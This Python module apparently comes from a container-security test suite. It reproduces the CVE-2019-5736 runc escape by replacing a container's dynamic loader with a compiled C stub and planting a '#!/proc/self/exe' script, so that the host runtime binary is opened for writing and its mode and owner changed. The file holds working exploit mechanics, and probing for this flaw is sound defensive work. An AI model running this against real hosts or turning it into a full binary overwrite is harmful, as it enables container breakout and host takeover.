"""The way out that CVE-2019-5736 took, live: a script of the tree whose interpreter is /proc/self/exe.

The kernel then runs the program of this machine that starts or enters the tree, with the tree's own loader. That
loader is ours: it tries to change the program's mode and owner to what they are, and to open it for writing.
"""

import subprocess
from pathlib import Path

SCRIPT = "usr/local/bin/escape"
LOADER = "usr/lib64/ld-linux-x86-64.so.2"
TRIED = 3
_SOURCE = r"""
static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
static void say(const char *text) { long size = 0; while (text[size]) size++; call(1, 1, (long)text, size); }
static void told(const char *what, long result) { say(result < 0 ? "held " : "ESCAPED "); say(what); say("\n"); }
void _start(void) {
    const char *program = "/proc/self/exe";
    char status[144];
    call(4, (long)program, (long)status, 0);
    told("its mode", call(90, (long)program, *(unsigned *)(status + 24) & 07777, 0));
    told("its owner", call(92, (long)program, *(unsigned *)(status + 28), *(unsigned *)(status + 32)));
    told("its content", call(2, (long)program, 1, 0));
    while (call(39, 0, 0, 0) == 1) call(34, 0, 0, 0);
    call(60, 0, 0, 0);
}
"""


def plant(tree: Path) -> None:
    """Put loader and script into a tree that is x86-64's; no other program in it starts any more."""
    (tree / LOADER).unlink()
    words = ["gcc", "-O1", "-nostdlib", "-static", "-fno-stack-protector", "-Wl,-Ttext-segment=0x70000000"]
    subprocess.run([*words, "-x", "c", "-", "-o", tree / LOADER], input=_SOURCE, text=True, check=True)
    (tree / SCRIPT).write_text("#!/proc/self/exe\n")
    (tree / SCRIPT).chmod(0o755)
